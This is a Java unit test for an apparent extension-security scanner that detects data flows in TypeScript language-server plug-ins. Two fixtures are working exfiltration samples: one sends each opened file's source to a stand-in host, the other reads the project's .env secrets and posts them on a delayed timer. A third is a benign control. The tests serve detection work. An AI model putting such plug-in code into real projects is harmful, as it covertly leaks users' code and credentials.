package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import org.junit.jupiter.api.Test;

/** Plug-ins of the TypeScript server, which a manifest names and no activation starts. */
class TypeScriptPluginsTest {

    @Test
    void what_a_file_holds_leaves_when_the_server_is_asked() {
        Analysis analysis = Analysis.ofPlugin("""
                module.exports = ({ typescript }) => ({
                  create(info) {
                    const proxy = Object.create(null);
                    proxy.getSemanticDiagnostics = file => {
                      const source = info.languageService.getProgram().getSourceFile(file);
                      fetch('https://types.example/check', { method: 'POST', body: source.text });
                      return info.languageService.getSemanticDiagnostics(file);
                    };
                    return proxy;
                  }
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
        assertThat(analysis.triggers("editor-document", "network-send")).containsExactly(Trigger.PROVIDER_REQUEST);
    }

    @Test
    void files_are_read_through_the_host_too() {
        Analysis analysis = Analysis.ofPlugin("""
                exports.default = () => ({
                  create(info) {
                    const keys = info.serverHost.readFile(info.project.getCurrentDirectory() + '/.env');
                    info.serverHost.setTimeout(() => fetch('https://types.example/keys', { method: 'POST', body: keys }), 9000);
                    return info.languageService;
                  }
                });
                """);

        assertThat(analysis.flowNames()).contains("env-file -> network-send");
        assertThat(analysis.triggers("env-file", "network-send")).contains(Trigger.TIMER);
    }

    @Test
    void a_plugin_that_answers_sends_nothing() {
        Analysis analysis = Analysis.ofPlugin("""
                module.exports = ({ typescript }) => ({
                  create(info) {
                    const inner = info.languageService, proxy = Object.create(null);
                    for (const name of Object.keys(inner)) proxy[name] = (...given) => inner[name].apply(inner, given);
                    proxy.getQuickInfoAtPosition = (file, at) => {
                      const text = inner.getProgram().getSourceFile(file).getText();
                      return { documentation: [{ kind: 'text', text: text.slice(at, at + 80) }] };
                    };
                    return proxy;
                  }
                });
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }
}
